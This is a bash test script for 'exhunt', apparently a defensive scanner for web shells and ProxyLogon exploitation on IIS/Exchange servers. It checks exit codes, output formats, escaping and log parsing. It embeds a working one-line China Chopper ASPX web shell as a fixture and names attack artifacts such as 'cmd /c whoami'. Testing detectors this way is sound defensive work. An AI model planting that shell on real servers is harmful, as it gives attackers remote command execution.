#!/usr/bin/env bash
# cli_tests.sh - the exhunt command as a user meets it: help, output formats,
# escaping, refusals and exit codes. Usage: cli_tests.sh EXHUNT SRC_DIR SHARED_DIR
set -u
EXHUNT=$1
SRC=$2
SHARED=$3
TMP=$(mktemp -d /tmp/exhunt-cli-XXXXXX)
trap 'chmod -R u+rwx "$TMP" 2>/dev/null; rm -rf "$TMP"' EXIT
pass=0
fail=0

ok() { pass=$((pass + 1)); }
bad() { fail=$((fail + 1)); echo "FAIL: $*"; }
# expect_rc WANT DESCRIPTION -- command...
expect_rc() {
  local want=$1 what=$2
  shift 3
  "$@" >"$TMP/out" 2>"$TMP/err"
  local rc=$?
  if [ "$rc" = "$want" ]; then ok; else bad "$what: exit $rc, want $want"; sed 's/^/  | /' "$TMP/err" | head -5; fi
}
# Every line of a file is one JSON object with the schema id.
check_jsonl() {
  python3 - "$1" <<'PY'
import json, sys
lines = open(sys.argv[1], encoding="utf-8").read().splitlines()
assert lines, "no output"
for ln in lines:
    o = json.loads(ln)
    assert o["schema"] == "exhunt/1", ln
    assert o["type"] in ("finding", "note", "error", "summary", "coverage"), ln
    if o["type"] == "finding" and "line" in o:
        for k in ("category", "severity", "rule", "title", "path", "line", "cve", "outcome", "excerpt"):
            assert k in o, (k, ln)
        assert o["outcome"] in ("exploited", "attempted", "probe")
        assert isinstance(o["cve"], list)
    elif o["type"] == "finding":
        for k in ("category", "severity", "rule", "title", "path", "sha256", "size", "mtime", "matches"):
            assert k in o, (k, ln)
        assert o["severity"] in ("critical", "high", "medium", "low", "info")
        assert o["mtime"].endswith("Z")
    if o["type"] in ("note", "error"):
        assert "what" in o and "reason" in o, ln
last = json.loads(lines[-1])
assert last["type"] == "summary", "last line is not the summary"
for k in ("files_seen", "files_scanned", "skipped", "errors", "findings", "files_flagged", "bytes_read", "elapsed_seconds"):
    assert k in last, k
# files, not batches: the logs engine sends a file's SSRF rows after all
# the others, so one file's findings can arrive in two groups
paths = {json.loads(ln)["path"] for ln in lines if json.loads(ln)["type"] == "finding"}
assert last["files_flagged"] == len(paths), ("files_flagged", last["files_flagged"], len(paths))
PY
}

CHOPPER='<%@ Page Language="Jscript"%><%eval(Request.Item["p"],"unsafe");%>'

# --- help and version ------------------------------------------------------
expect_rc 0 "--version" -- "$EXHUNT" --version
grep -q '^exhunt [0-9]' "$TMP/out" && ok || bad "--version prints the version"
expect_rc 0 "--help" -- "$EXHUNT" --help
grep -q 'scan' "$TMP/out" && ok || bad "--help lists scan"
expect_rc 0 "help scan" -- "$EXHUNT" help scan
grep -q -- '--max-filesize' "$TMP/out" && ok || bad "help scan shows options"
expect_rc 0 "scan --help" -- "$EXHUNT" scan --help
expect_rc 2 "help of unknown command" -- "$EXHUNT" help nope
expect_rc 2 "unknown command" -- "$EXHUNT" nope
expect_rc 2 "no arguments" -- "$EXHUNT"
expect_rc 2 "scan without PATH" -- "$EXHUNT" scan
expect_rc 2 "bad option" -- "$EXHUNT" scan --bogus "$TMP"
expect_rc 2 "bad --threads" -- "$EXHUNT" scan --threads 0 "$TMP"
expect_rc 2 "bad --format" -- "$EXHUNT" scan --format xml "$TMP"
expect_rc 2 "bad --newer-than" -- "$EXHUNT" scan --newer-than yesterday "$TMP"

# --- clean and dirty trees -------------------------------------------------
mkdir -p "$TMP/clean/site" "$TMP/dirty/inetpub/wwwroot/aspnet_client/system_web"
printf '<%%@ Page Language="C#" %%>\n<html><body>Hello</body></html>\n' >"$TMP/clean/site/index.aspx"
printf 'body { color: red }\n' >"$TMP/clean/site/site.css"
cp "$TMP/clean/site/index.aspx" "$TMP/dirty/"
printf '%s' "$CHOPPER" >"$TMP/dirty/inetpub/wwwroot/aspnet_client/system_web/x.aspx"

expect_rc 0 "clean tree exits 0" -- "$EXHUNT" scan --no-progress "$TMP/clean"
grep -q 'nothing found' "$TMP/out" && ok || bad "clean tree: summary says nothing found"
expect_rc 1 "dirty tree exits 1" -- "$EXHUNT" scan "$TMP/dirty"
grep -q 'x.aspx' "$TMP/out" && ok || bad "dirty tree: the shell is named"
grep -q 'in 1 files' "$TMP/out" && ok || bad "summary counts the flagged files"
grep -q 'signature-base' "$TMP/out" && ok || bad "text output names the rule source"

expect_rc 1 "jsonl" -- "$EXHUNT" scan --format jsonl "$TMP/dirty"
if check_jsonl "$TMP/out"; then ok; else bad "jsonl is well-formed"; fi
grep -q '"license":"Detection Rule License 1.1' "$TMP/out" && ok || bad "DRL licence shown in matches"

# -o writes the same lines to a file; refusing to write inside evidence
expect_rc 1 "-o FILE" -- "$EXHUNT" scan -f jsonl -o "$TMP/report.jsonl" "$TMP/dirty"
[ -s "$TMP/report.jsonl" ] && [ ! -s "$TMP/out" ] && ok || bad "-o writes to the file only"
expect_rc 2 "-o inside a scanned root is refused" -- "$EXHUNT" scan -o "$TMP/dirty/report.txt" "$TMP/dirty"
[ ! -e "$TMP/dirty/report.txt" ] && ok || bad "nothing written under the scanned root"


# --- rules ------------------------------------------------------------------
printf 'rule ok_rule { strings: $a = "Hello" condition: $a }\n' >"$TMP/good.yar"
printf 'rule broken {\n condition: and\n}\n' >"$TMP/broken.yar"
# --min-severity filters what is reported, and the exit code follows it
expect_rc 1 "user rule hit (high by default)" -- "$EXHUNT" scan --no-default-rules --rules "$TMP/good.yar" "$TMP/clean"
expect_rc 0 "--min-severity above every finding" -- "$EXHUNT" scan --no-default-rules \
  --rules "$TMP/good.yar" --min-severity critical "$TMP/clean"
mkdir -p "$TMP/rules"
cp "$TMP/good.yar" "$TMP/broken.yar" "$TMP/rules/"
expect_rc 1 "user rule folder with one broken file still scans" -- "$EXHUNT" scan --rules "$TMP/rules" "$TMP/clean"
grep -q 'broken.yar' "$TMP/err" && grep -q 'line 2' "$TMP/err" && ok || bad "broken rule reported by name and line"
grep -q 'ok_rule' "$TMP/out" && ok || bad "the good rule in the same folder ran"
expect_rc 2 "broken rule and no findings exits 2" -- "$EXHUNT" scan --no-default-rules --rules "$TMP/broken.yar" "$TMP/clean"
expect_rc 2 "missing rule file" -- "$EXHUNT" scan --rules "$TMP/nope.yar" "$TMP/clean"
grep -q 'nope.yar' "$TMP/err" && ok || bad "missing rule file named"
mkdir -p "$TMP/norules/sub"
expect_rc 2 "a --rules folder without a rule file is an error" -- "$EXHUNT" scan -f jsonl \
  --rules "$TMP/norules" "$TMP/clean"
if grep -q '"what":"rule-load".*no .yar or .yara file' "$TMP/out"; then ok; else bad "empty rule folder: rule-load error named"; fi
expect_rc 1 "jsonl carries rule errors" -- "$EXHUNT" scan -f jsonl --rules "$TMP/broken.yar" "$TMP/dirty"
grep -q '"type":"error","what":"rule-compile"' "$TMP/out" && ok || bad "rule-compile error line in jsonl"
# the public rule sets that need external variables load unchanged
if [ -d "$SHARED/research-data/yara/signature-base" ]; then
  expect_rc 0 "ext-var rule sets load" -- "$EXHUNT" scan --no-default-rules \
    --rules "$SHARED/research-data/yara/signature-base/gen_webshells_ext_vars.yar" \
    --rules "$SHARED/research-data/yara/signature-base/generic_anomalies.yar" "$TMP/clean"
fi
printf 'sha256\t%s\tcritical\tTest hash\ttest\t-\n' "$(sha256sum "$TMP/clean/site/site.css" | cut -d' ' -f1)" >"$TMP/iocs.tsv"
expect_rc 1 "--iocs hash list" -- "$EXHUNT" scan -f jsonl --iocs "$TMP/iocs.tsv" "$TMP/clean"
grep -q '"category":"ioc-hash"' "$TMP/out" && ok || bad "hash IOC reported"

# --- hostile names ------------------------------------------------------------
mkdir -p "$TMP/names"
printf '%s' "$CHOPPER" >"$TMP/names/$(printf 'esc\033[31mred\033[0m.aspx')"
printf '%s' "$CHOPPER" >"$TMP/names/$(printf 'new\nline.aspx')"
printf '%s' "$CHOPPER" >"$TMP/names/$(printf 'bad\377.aspx')"
expect_rc 1 "hostile names: text" -- "$EXHUNT" scan "$TMP/names"
if grep -q $'\033' "$TMP/out"; then bad "raw ESC in text output"; else ok; fi
grep -q 'esc\\x1b\[31mred' "$TMP/out" && ok || bad "ESC shown escaped"
grep -q 'new\\x0aline.aspx' "$TMP/out" && ok || bad "newline shown escaped"
expect_rc 1 "hostile names: jsonl" -- "$EXHUNT" scan -f jsonl "$TMP/names"
if check_jsonl "$TMP/out"; then ok; else bad "jsonl well-formed with hostile names"; fi
grep -q '"path_b64"' "$TMP/out" && ok || bad "invalid UTF-8 path carries path_b64"

# --- colour and progress on a terminal ----------------------------------------
if command -v script >/dev/null; then
  script -qec "$EXHUNT scan $TMP/dirty" /dev/null >"$TMP/tty" 2>&1
  grep -q $'\033\[' "$TMP/tty" && ok || bad "colour on a terminal"
  NO_COLOR=1 script -qec "$EXHUNT scan --no-progress $TMP/dirty" /dev/null >"$TMP/tty" 2>&1
  if grep -q $'\033\[' "$TMP/tty"; then bad "NO_COLOR honoured"; else ok; fi
fi
"$EXHUNT" scan "$TMP/dirty" >/dev/null 2>"$TMP/err"
[ ! -s "$TMP/err" ] && ok || bad "no progress or noise on a non-terminal stderr"

# --- unreadable file: errors without findings exit 2 --------------------------
mkdir -p "$TMP/locked"
printf 'plain\n' >"$TMP/locked/a.txt"
printf 'plain\n' >"$TMP/locked/b.txt"
chmod 0 "$TMP/locked/b.txt"
chmod 755 "$TMP" "$TMP/locked"
if [ "$(id -u)" = 0 ]; then
  RUN_AS=(setpriv --reuid=65534 --regid=65534 --clear-groups)
else
  RUN_AS=()
fi
expect_rc 2 "unreadable file and no findings exits 2" -- "${RUN_AS[@]}" "$EXHUNT" scan "$TMP/locked"
grep -q 'b.txt' "$TMP/err" && grep -qi 'permission denied' "$TMP/err" && ok || bad "unreadable file reported with reason"

# --- the bundled example evidence -------------------------------------------
if [ -d "$SRC/examples/compromised-exchange" ]; then
  expect_rc 1 "example compromised server" -- "$EXHUNT" scan -f jsonl "$SRC/examples/compromised-exchange"
  check_jsonl "$TMP/out" && ok || bad "example jsonl well-formed"
  expect_rc 0 "example clean server" -- "$EXHUNT" scan "$SRC/examples/clean-exchange"
fi

# --- exhunt logs -------------------------------------------------------------
expect_rc 0 "help logs" -- "$EXHUNT" help logs
grep -q -- '--since' "$TMP/out" && ok || bad "help logs shows options"
if [ -d "$SRC/examples/compromised-exchange" ]; then
  expect_rc 1 "logs: compromised example" -- "$EXHUNT" logs -f jsonl "$SRC/examples/compromised-exchange"
  check_jsonl "$TMP/out" && ok || bad "logs jsonl well-formed"
  for rule in cve_2021_26855_ssrf cve_2021_27065_set_vdir iis_webshell_request; do
    grep -q "\"rule\":\"exhunt.log.$rule\"" "$TMP/out" && ok || bad "logs: $rule found"
  done
  [ "$(grep '"type":"coverage"' "$TMP/out" | grep -vc '"channel"')" = 5 ] && ok || bad "logs: one coverage line per family"
  # and per event channel the detectors read: the example's events are Sysmon's only
  [ "$(grep -c '"type":"coverage","family":"windows-events","channel"' "$TMP/out")" = 4 ] && ok || bad "logs: four event channels in coverage"
  grep -q '"channel":"Microsoft-Windows-Sysmon/Operational","present":true' "$TMP/out" && ok || bad "logs: Sysmon channel present"
  grep -q '"channel":"Security","present":false' "$TMP/out" && ok || bad "logs: Security channel missing"
  grep -q '"family":"exchange-oabgenerator","present":false' "$TMP/out" && ok || bad "logs: missing family reported"
  grep -q '"client_ip":"203.0.113.47"' "$TMP/out" && ok || bad "logs: attacker IP carried"
  # Each finding's time, client and user agent are the line's own, read here
  # independently (csv module; W3C by its #Fields), and the build is #Version's.
  python3 - "$TMP/out" "$SRC/examples/compromised-exchange" <<'PY' && ok || bad "logs: finding fields equal the log lines' values"
import csv, json, os, re, sys
rows = [json.loads(l) for l in open(sys.argv[1], encoding="utf-8")]
found = [o for o in rows if o["type"] == "finding"]
assert found and all(re.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ", o["timestamp"]) for o in found)
checked = 0
for o in found:
    lines = open(o["path"], encoding="utf-8", errors="replace").read().splitlines()
    line = lines[o["line"] - 1]
    name = os.path.basename(o["path"])
    if name.startswith("u_ex"):
        fields = [l for l in lines[:o["line"]] if l.startswith("#Fields:")][-1].split()[1:]
        v = dict(zip(fields, line.split(" ")))
        want = (v["date"] + "T" + v["time"] + "Z", v["c-ip"], v["cs(User-Agent)"].replace("+", " "))
    elif name.startswith("HttpProxy_"):
        header = next(csv.reader([[l for l in lines if l.startswith("#Fields:")][-1][len("#Fields: "):]]))
        v = dict(zip(header, next(csv.reader([line]))))
        want = (v["DateTime"][:19] + "Z", v["ClientIpAddress"], v["UserAgent"])
        ver = [l for l in lines if l.startswith("#Version:")][-1].split()[1]
        cov = [c for c in rows if c["type"] == "coverage" and c["family"] == "exchange-httpproxy"]
        assert cov[0]["build"] == ver, (cov, ver)
    else:
        continue
    assert (o["timestamp"], o.get("client_ip"), o.get("user_agent")) == want, (o, want)
    checked += 1
assert checked >= 20, checked
PY
  # -o writes the same lines to a file, and is refused inside the evidence
  expect_rc 1 "logs: -o FILE" -- "$EXHUNT" logs -f jsonl -o "$TMP/logs-o.jsonl" "$SRC/examples/compromised-exchange"
  [ ! -s "$TMP/out" ] && [ "$(grep -c '"type":"finding"' "$TMP/logs-o.jsonl")" -gt 20 ] && ok || bad "logs -o: findings in the file, none on stdout"
  expect_rc 2 "logs: -o inside the evidence refused" -- "$EXHUNT" logs -o "$SRC/examples/compromised-exchange/out.txt" "$SRC/examples/compromised-exchange"
  [ ! -e "$SRC/examples/compromised-exchange/out.txt" ] && ok || bad "logs -o inside the evidence: nothing written"
  expect_rc 0 "logs: clean example" -- "$EXHUNT" logs "$SRC/examples/clean-exchange"
  grep -q 'MISSING' "$TMP/out" && ok || bad "logs text: missing family shown"
  expect_rc 0 "logs: --since after the attack" -- "$EXHUNT" logs --since 2021-03-04 "$SRC/examples/compromised-exchange"
  # A date alone as --until means through that day; with a time, up to it.
  # (HelseCERT's rows have findings on 3, 5 and 6 March.)
  expect_rc 1 "logs: --until a day" -- "$EXHUNT" logs -f jsonl --until 2021-03-05 "$SRC/tests/data/logs/helsecert"
  python3 -c 'import json,sys; t=[json.loads(l)["timestamp"][:10] for l in open(sys.argv[1]) if "\"finding\"" in l]; sys.exit(not ("2021-03-05" in t and max(t) == "2021-03-05"))' "$TMP/out" &&
    ok || bad "logs: --until DATE keeps that day's findings, none later"
  expect_rc 0 "logs: --until the first second of the day" -- "$EXHUNT" logs --until 2021-03-03T00:00:00Z "$SRC/examples/compromised-exchange"
  expect_rc 2 "logs: --until before --since" -- "$EXHUNT" logs --since 2021-03-04 --until 2021-03-01 "$SRC/examples"
fi
mkdir -p "$TMP/gzlogs/W3SVC1"
printf '#Software: Microsoft Internet Information Services 10.0\n#Fields: date time cs-method cs-uri-stem c-ip sc-status\n2021-03-03 12:00:00 POST /aspnet_client/s.aspx 203.0.113.5 200\n' | gzip -n >"$TMP/gzlogs/W3SVC1/u_ex210303.log.gz"
# The planted script as it lands in the file: the ECP log's CSV quoting undone.
expect_rc 1 "logs: HelseCERT fixture" -- "$EXHUNT" logs -f jsonl "$SRC/tests/data/logs/helsecert"
grep -q '"rule":"exhunt.log.cve_2021_27065_set_vdir".*"artifact":"<script language=\\"JScript\\" runat=\\"server\\">' "$TMP/out" &&
  ok || bad "set_vdir artifact: the script with its CSV quotes undone"
expect_rc 1 "logs: .gz read transparently" -- "$EXHUNT" logs -f jsonl "$TMP/gzlogs"
grep -q '"line":3' "$TMP/out" && ok || bad "logs: line number inside .gz"
# Files are read largest first (so no core is left reading the biggest log
# alone at the end), equal sizes in path order: with one thread, the order
# of findings follows, whatever order readdir gives.
mkdir -p "$TMP/order/W3SVC1"
for f in a:1 b:40 c:1 d:9; do
  name=${f%%:*} pad=${f##*:}
  {
    printf '#Software: Microsoft Internet Information Services 10.0\n#Fields: date time cs-method cs-uri-stem c-ip sc-status\n'
    for _ in $(seq "$pad"); do printf '2021-03-03 11:00:00 GET /owa/ 198.51.100.7 200\n'; done
    printf '2021-03-03 12:00:00 POST /aspnet_client/%s.aspx 203.0.113.5 200\n' "$name"
  } >"$TMP/order/W3SVC1/u_ex21030$name.log"
done
expect_rc 1 "logs: order of work" -- "$EXHUNT" logs --threads 1 -f jsonl "$TMP/order"
[ "$(grep -o 'u_ex21030[a-d]' "$TMP/out" | grep -v '^$' | uniq | tr '\n' ' ')" = "u_ex21030b u_ex21030d u_ex21030a u_ex21030c " ] &&
  ok || bad "logs: largest file first, then path order: $(grep -o 'u_ex21030[a-d]' "$TMP/out" | uniq | tr '\n' ' ')"

# Real EVTX recordings (evtx-attack-samples, GPL): record counts agree with
# libevtx's own evtxinfo, and a web shell's w3wp.exe -> shell is found.
EVTX_DIR="$SHARED/research-data/datasets/evtx-attack-samples"
if [ -d "$EVTX_DIR" ] && command -v evtxinfo >/dev/null; then
  for f in "$EVTX_DIR"/*.evtx; do
    want=$(evtxinfo "$f" | awk -F: '/Number of records/ {gsub(/[ \t]/, "", $2); print $2; exit}')
    "$EXHUNT" logs -f jsonl "$f" >"$TMP/out" 2>"$TMP/err"
    got=$(python3 -c 'import json,sys; print(sum(json.loads(l).get("records",0) for l in open(sys.argv[1]) if "\"coverage\"" in l and "windows-events" in l and "\"channel\"" not in l))' "$TMP/out")
    [ "$want" = "$got" ] && ok || bad "$(basename "$f"): $got records, evtxinfo says $want"
  done
  expect_rc 1 "evtx: IIS web shell spawning a shell" -- "$EXHUNT" logs -f jsonl "$EVTX_DIR/LM_typical_IIS_webshell_sysmon_1_10_traces.evtx"
  grep -q '"rule":"exhunt.log.web_worker_child_process".*cmd.exe' "$TMP/out" && ok || bad "evtx: w3wp -> cmd found"
  expect_rc 1 "IIS: Tunna web-shell tunnel" -- "$EXHUNT" logs -f jsonl "$EVTX_DIR/Tunna_rdp_tunnel_IIS.log"
  [ "$(grep -c '"rule":"exhunt.log.iis_webshell_tunnel"' "$TMP/out")" = 3 ] && ok || bad "Tunna: the 3 connect requests"
  # and its data requests, counted here from the log itself, in one finding
  python3 - "$TMP/out" "$EVTX_DIR/Tunna_rdp_tunnel_IIS.log" <<'PY' && ok || bad "Tunna: the data requests summed in one finding"
import json, sys
gets = posts = 0
first = None
for n, line in enumerate(open(sys.argv[2], encoding="utf-8", errors="replace"), 1):
    f = line.split()
    if len(f) > 11 and not line.startswith("#") and f[5] == "proxy" and f[11].startswith("2"):
        gets += f[3] == "GET"
        posts += f[3] == "POST"
        first = first or n
traffic = [o for o in map(json.loads, open(sys.argv[1])) if o.get("rule") == "exhunt.log.iis_webshell_tunnel_traffic"]
assert len(traffic) == 1, traffic
t = traffic[0]
assert t["line"] == first and t["client_ip"] == "10.0.2.17" and t["artifact"] == "/erp/conn.aspx", t
assert t["description"].startswith("%d tunnel data requests (%d GET, %d POST)" % (gets + posts, gets, posts)), (t, gets, posts)
assert gets + posts > 4000
PY
  expect_rc 1 "Tunna: text output" -- "$EXHUNT" logs "$EVTX_DIR/Tunna_rdp_tunnel_IIS.log"
  grep -q '^     sum:   [0-9]* tunnel data requests (' "$TMP/out" && ok || bad "Tunna text: the sum shown"
  # Collected EVTX often arrives gzipped, or saved without its extension.
  sysmon="$EVTX_DIR/LM_typical_IIS_webshell_sysmon_1_10_traces.evtx"
  want=$(evtxinfo "$sysmon" | awk -F: '/Number of records/ {gsub(/[ \t]/, "", $2); print $2; exit}')
  mkdir -p "$TMP/evtxgz/Logs" "$TMP/evtxnamed"
  gzip -nc "$sysmon" >"$TMP/evtxgz/Logs/Microsoft-Windows-Sysmon%4Operational.evtx.gz"
  expect_rc 1 "evtx: .evtx.gz read" -- "$EXHUNT" logs -f jsonl "$TMP/evtxgz"
  grep -q '"rule":"exhunt.log.web_worker_child_process".*cmd.exe' "$TMP/out" && ok || bad "evtx.gz: w3wp -> cmd found"
  grep -q "\"family\":\"windows-events\",\"present\":true.*\"records\":$want[,}]" "$TMP/out" &&
    ok || bad "evtx.gz: $want records, as evtxinfo says: $(grep windows-events "$TMP/out")"
  mkdir -p "$TMP/evtxcut"
  head -c 40000 "$sysmon" | gzip -nc >"$TMP/evtxcut/cut.evtx.gz"
  expect_rc 2 "evtx: a cut EVTX inside a .gz" -- "$EXHUNT" logs -f jsonl "$TMP/evtxcut/cut.evtx.gz"
  grep -q '"type":"error","what":"evtx-truncated"' "$TMP/out" && ok || bad "evtx.gz cut: reported as truncated"
  cp "$sysmon" "$TMP/evtxnamed/Sysmon-Operational"
  expect_rc 1 "evtx: a file named by the user is read whatever its name" -- "$EXHUNT" logs -f jsonl "$TMP/evtxnamed/Sysmon-Operational"
  grep -q '"rule":"exhunt.log.web_worker_child_process"' "$TMP/out" && ok || bad "named EVTX without .evtx: read"
fi
# A file named by the user that is no log is said to be so; files with
# log-like names in a folder that are no log get one note.
mkdir -p "$TMP/notlogs"
printf 'hello\n' >"$TMP/notlogs/app.log"
printf 'id,name\n1,x\n' >"$TMP/notlogs/table.csv"
expect_rc 0 "logs: a named file that is no log" -- "$EXHUNT" logs -f jsonl "$TMP/notlogs/app.log"
grep -q '"type":"note","what":"not-a-log","path":"[^"]*app.log"' "$TMP/out" && ok || bad "not-a-log note"
expect_rc 0 "logs: no log in a folder" -- "$EXHUNT" logs -f jsonl "$TMP/notlogs"
grep -q '"what":"not-logs".*"reason":"2 file(s)' "$TMP/out" && ok || bad "not-logs note counts both"
expect_rc 0 "logs text: notes counted" -- "$EXHUNT" logs "$TMP/notlogs"
grep -q '^  notes: 1 (-v shows them)' "$TMP/out" && ok || bad "text summary counts the notes"
# exhunt hunt hands the logs its walk collected to the same engine: one
# note for them too, not one per file
expect_rc 5 "hunt: no log, no build" -- "$EXHUNT" hunt -f jsonl "$TMP/notlogs"
[ "$(grep -c '"what":"not-a-log"' "$TMP/out")" = 0 ] && grep -q '"what":"not-logs".*"reason":"1 file(s)' "$TMP/out" &&
  ok || bad "hunt: files that are no log counted in one note"

# The real recorded ProxyLogon exploit run (OTRF Security-Datasets
# SDWIN-210314014019, MIT): 10,487 Windows events as JSON lines in a zip.
OTRF="$SHARED/research-data/datasets/otrf/proxylogon_ssrf_rce_poc.zip"
if [ -f "$OTRF" ]; then
  mkdir -p "$TMP/otrf"
  python3 -c 'import sys, zipfile; zipfile.ZipFile(sys.argv[1]).extractall(sys.argv[2])' "$OTRF" "$TMP/otrf"
  expect_rc 1 "logs: OTRF ProxyLogon recording" -- "$EXHUNT" logs -f jsonl "$TMP/otrf"
  check_jsonl "$TMP/out" && ok || bad "OTRF jsonl well-formed"
  python3 - "$TMP/out" <<'PY' && ok || bad "OTRF: exactly the exploitation, nothing else"
import json, sys
found = {}
summary = None
for ln in open(sys.argv[1], encoding="utf-8"):
    o = json.loads(ln)
    if o["type"] == "finding":
        found.setdefault(o["rule"], []).append(o)
    if o["type"] == "summary":
        summary = o
assert summary["records"] == 10487, summary["records"]
sv = found.pop("exhunt.log.cve_2021_27065_set_vdir")
assert len(sv) == 1 and "<script" in sv[0]["artifact"], sv
fc = found.pop("exhunt.log.webshell_file_created")
assert len(fc) == 1 and fc[0]["artifact"].endswith("\\owa\\auth\\ohyeah.aspx"), fc
wc = found.pop("exhunt.log.web_worker_child_process")
assert wc and all(f["artifact"] == "cmd /c whoami" for f in wc), wc
assert not found, sorted(found)  # nothing else is called exploitation
PY
fi

# Windows events as JSON lines (tests/data/logs/variants/events-json): the
# golden test checks which lines are found; here, that each exporter's time
# form is read as the right UTC second. Line 4 is Velociraptor's float
# epoch SystemTime, line 6 a "+02:00" TimeCreated (07:20:11 local), line 7
# (the file's latest record) a PowerShell "/Date(ms)/".
expect_rc 1 "logs: JSON-lines Windows events" -- "$EXHUNT" logs -f jsonl --no-progress "$SRC/tests/data/logs/variants/events-json"
python3 - "$TMP/out" <<'PY' && ok || bad "events-json: finding and coverage times in UTC"
import json, sys
rows = [json.loads(ln) for ln in open(sys.argv[1], encoding="utf-8")]
when = {o["line"]: o.get("timestamp") for o in rows if o["type"] == "finding"}
assert when == {2: "2021-03-03T03:11:02Z", 4: "2021-03-03T04:51:02Z",
                6: "2021-03-03T05:20:11Z"}, when
cov = [o for o in rows if o["type"] == "coverage" and o["family"] == "windows-events" and "channel" not in o]
assert len(cov) == 1 and cov[0]["records"] == 8, cov
assert (cov[0]["first"], cov[0]["last"]) == ("2021-03-03T02:58:40Z", "2021-03-03T06:20:00Z"), cov
# per channel: winlogbeat's winlog.channel, Velociraptor's System.Channel, OTRF's Channel
chan = {o["channel"]: (o["records"], o["first"], o["last"]) for o in rows
        if o["type"] == "coverage" and "channel" in o}
assert chan == {"Security": (1, "2021-03-03T02:58:40Z", "2021-03-03T02:58:40Z"),
                "Microsoft-Windows-Sysmon/Operational": (2, "2021-03-03T04:51:02Z", "2021-03-03T04:55:10Z"),
                "Application": (3, "2021-03-03T03:11:02Z", "2021-03-03T06:00:00Z"),
                "MSExchange Management": (2, "2021-03-03T05:20:11Z", "2021-03-03T06:20:00Z")}, chan
PY

echo "$pass passed, $fail failed"
[ "$fail" = 0 ]
